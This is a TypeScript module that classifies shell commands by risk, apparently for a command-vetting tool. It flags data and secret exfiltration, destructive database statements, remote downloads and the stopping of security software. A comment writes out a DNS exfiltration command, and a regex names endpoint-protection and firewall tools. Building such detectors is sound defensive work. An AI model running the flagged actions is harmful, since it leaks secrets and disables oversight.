import { type KindId, kindOf } from '../catalogue.ts'
import { readCode } from '../code.ts'
import { statementKinds } from '../sql.ts'
import { isPrivate } from '../targets/paths.ts'
import { matchesAny } from '../tools/pattern.ts'
import type { ReadyTool } from '../tools/table.ts'
import { emptiesStore, isDeletingOption, powerKind, verbKind } from '../verbs.ts'
import { unknown } from './flow.ts'
import type { Program } from './program.ts'
import { serviceKinds, sourceKinds, uploadKinds } from './services.ts'
import { shown } from './situation.ts'

/** What a program does by its table row, by its verbs and by the places that its words name. */
export function kindsOf(program: Program): readonly KindId[] {
  const { tool, wraps } = program
  if (tool === undefined) return unknownKinds(program)
  const found = ruledKinds(tool, program.given)
  if (found === undefined) return ['reads']
  for (const kind of namedKinds(program, tool, found)) found.add(kind)
  if (found.size === 0 && !(wraps === 'transparent' && kindOf(tool.is).level !== 'high')) found.add(tool.is)
  return [...found]
}

/** What the words of a program mean that talks to others: verbs, addresses, what they carry. */
function namedKinds(program: Program, tool: ReadyTool, found: Set<KindId>): readonly KindId[] {
  const kinds: KindId[] = []
  if (tool.is === 'changes-remote' || tool.verbs === true) {
    addVerb(found, verbKind(spokenWords(program)))
    kinds.push(...(tool.verbs === true ? spokenKinds(program) : serviceKinds(program)))
  } else if (found.has('changes-remote')) kinds.push(...uploadKinds(program))
  else kinds.push(...otherKinds(program, tool, found))
  if (connecting.has(tool.is) || [...found].some((kind) => connecting.has(kind)))
    kinds.push(...sourceKinds(program, found))
  if (tool.hosts === true && leaks(program)) kinds.push('sends-data')
  if (tasks.has(tool.is) && emptiesStore(program.given.positionals)) kinds.push('destroys-records')
  return kinds
}

/** The words before `--`: what follows is for another program. */
function spokenWords({ argv, given }: Program): readonly string[] {
  const end = argv.findIndex(({ text }) => text === '--')
  return end === -1 ? given.positionals : given.positionals.filter((_, at) => (given.places[at] ?? 0) < end)
}

/** What verb and noun mean, where nothing leaves this machine. */
function spokenKinds(program: Program): readonly KindId[] {
  const kind = powerKind(program.given.positionals)
  return kind === undefined ? [] : [kind]
}

/** `dig $(xxd -p secret).example.com`: what is asked for carries data out, and so does a file of questions. */
function leaks(program: Program): boolean {
  const { argv, given, name } = program
  return (
    argv.some((value) => value.flow.secret || /(?:\)|`)\.[\w-]+\.\w/.test(value.source)) ||
    // What ping fills its packets with.
    (name === 'ping' && argv.some(({ text }, at) => argv[at - 1]?.text === '-p' && text.includes(unknown))) ||
    given.options.some((option) => option.value !== undefined && isPrivate(option.value)) ||
    given.positionals.some((word) => /^[/~]/.test(word) && isPrivate(word))
  )
}

/** Programs whose words may be the names of a project's tasks. */
const tasks: ReadonlySet<KindId> = new Set<KindId>(['runs-project', 'installs'])

/** Programs whose first words are mostly verbs, where no rule tells. */
const managing: ReadonlySet<KindId> = new Set<KindId>([
  'changes-settings',
  'changes-system',
  'installs',
  'uses-containers',
])

/** What the first words of a program say where none of its rules holds, and whether what it stops is a guard. */
function otherKinds({ given }: Program, tool: ReadyTool, found: ReadonlySet<KindId>): readonly KindId[] {
  if (found.has('stops-services') || tool.is === 'signals-process')
    return given.positionals.some((word) => guard.test(word)) ? ['disables-protection'] : []
  const undoes =
    found.size === 0 &&
    managing.has(tool.is) &&
    verbKind(given.positionals.slice(0, 2)) === 'deletes-resources'
  return undoes ? ['deletes-resources'] : []
}

/** Programs to which it matters whose address they are given. */
const connecting: ReadonlySet<KindId> = new Set<KindId>([
  'installs',
  'publishes',
  'fetches',
  'contacts-network',
  'changes-settings',
  'changes-repository',
  'changes-remote',
])

/** What the rules of a tool say; undefined where one of them says that it does nothing. */
function ruledKinds(tool: ReadyTool, words: Program['given']): Set<KindId> | undefined {
  const given =
    tool.folds === true
      ? { ...words, positionals: words.positionals.map((word) => word.toLowerCase()) }
      : words
  const found = new Set<KindId>()
  const where = tool.is === 'changes-remote' ? 'deep' : 'first'
  for (const [kind, patterns] of tool.patterns) {
    if (!matchesAny(patterns, given, where)) continue
    if (kind === 'harmless') return undefined
    found.add(kind)
  }
  return found
}

/** A verb that reads takes back what a rule saw in a noun; reading credentials and deleting stand. */
function addVerb(found: Set<KindId>, verb: KindId | undefined): void {
  if (verb === undefined) return
  if (verb !== 'reads') {
    found.add(verb)
    return
  }
  for (const kind of found)
    if (!/^(?:reads-secrets|deletes-resources|fetches|runs-project)$/.test(kind)) found.delete(kind)
  if (found.size === 0) found.add('reads')
}

/** Programs that watch over a machine, by their makers' names. */
const guard =
  /falcon|falco\b|crowd(?:strike|sec)|carbonblack|cb(?:agent|daemon|d\b)|sentinel|mdatp|defender|osquery|wazuh|ossec|sophos|mcafee|symantec|\beset|kaspersky|ufw|firewall|iptables|nftables|audit|syslog|journal|apparmor|selinux|fail2ban|clam|\baide\b|sysmon|unattended/i

const statementName = /^(?:drop|delete|truncate|alter|update|insert|grant|revoke|flushall|flushdb|shutdown)$/i

function unknownKinds(program: Program): readonly KindId[] {
  const { given, name } = program
  const statements = statementName.test(name) ? statementKinds(shown(program.argv)) : []
  if (statements.length > 0) return statements
  // A cmdlet of PowerShell, where the text is for that shell.
  const cmdlet = /^[A-Z][a-z]+-[A-Z]\w+$/.test(name) ? readCode(shown(program.argv), 'powershell').kinds : []
  if (cmdlet.length > 0) return cmdlet
  // `npx https://…`: what is named by its address is fetched first.
  if (/^(?:git\+)?(?:https?|git|ssh):\/\//.test(program.argv[0]?.text ?? '')) return ['runs-download']
  if (
    program.argv.some(({ flow }) => flow.secret) &&
    program.argv.some(({ text }) => /:\/\/|^(?:\d{1,3}\.){3}\d{1,3}(?::\d+)?$/.test(text))
  )
    return ['sends-secret']
  if (guard.test(name) && given.positionals.some((word) => /^(?:stop|disable|unload|kill|off)$/.test(word)))
    return ['disables-protection']
  const verb = verbKind(given.positionals)
  const deletes =
    verb === 'deletes-resources' ||
    given.options.some((option) => isDeletingOption(option.name)) ||
    /(?:^|[-_/])(?:destroy|delete|purge|wipe|erase|drop|remove|uninstall)(?:\.(?:sh|py))?$/.test(name)
  return deletes ? ['deletes-resources'] : ['unknown-program']
}
